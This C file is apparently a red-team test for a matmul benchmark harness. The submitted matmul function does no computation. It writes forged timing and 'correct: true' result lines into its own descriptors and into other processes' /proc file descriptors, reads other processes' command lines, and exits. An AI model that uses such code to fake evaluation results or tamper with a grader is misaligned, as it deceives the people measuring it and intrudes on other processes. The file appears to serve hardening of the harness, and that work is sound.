/* Red team (route 1): forge the measurement channel. Writes fake timing/result lines to every descriptor it
 * holds and every /proc/<pid>/fd it can open, reads arguments of other processes from /proc/<pid>/cmdline
 * (not /proc/self), then leaves without computing anything. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char FAKE[] =
    "{\"event\":\"time\",\"ok\":true,\"wall\":[1e-9],\"cpu\":[1e-9],\"n\":512,\"m\":512,\"k\":512}\n"
    "{\"correct\":true,\"metrics\":{\"gflops\":99999},\"feedback\":\"FORGED\"}\n";

void matmul(int n, int m, int k, const float *A, const float *B, float *C) {
  (void)n; (void)m; (void)k; (void)A; (void)B; (void)C;
  for (int fd = 0; fd < 64; fd++) (void)!write(fd, FAKE, sizeof FAKE - 1);
  DIR *proc = opendir("/proc");
  struct dirent *e;
  char path[512], buf[4096];
  while (proc && (e = readdir(proc))) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
    int c = open(path, O_RDONLY);
    if (c >= 0) {
      ssize_t got = read(c, buf, sizeof buf - 1);
      if (got > 0) fprintf(stderr, "SAW cmdline of %s (%zd bytes)\n", e->d_name, got);
      close(c);
    }
    for (int fd = 0; fd < 16; fd++) {
      snprintf(path, sizeof path, "/proc/%s/fd/%d", e->d_name, fd);
      int w = open(path, O_WRONLY | O_NONBLOCK);
      if (w >= 0) {
        if (write(w, FAKE, sizeof FAKE - 1) > 0 && strcmp(e->d_name, "self") != 0)
          fprintf(stderr, "WROTE into /proc/%s/fd/%d\n", e->d_name, fd);
        close(w);
      }
    }
  }
  _exit(0);
}
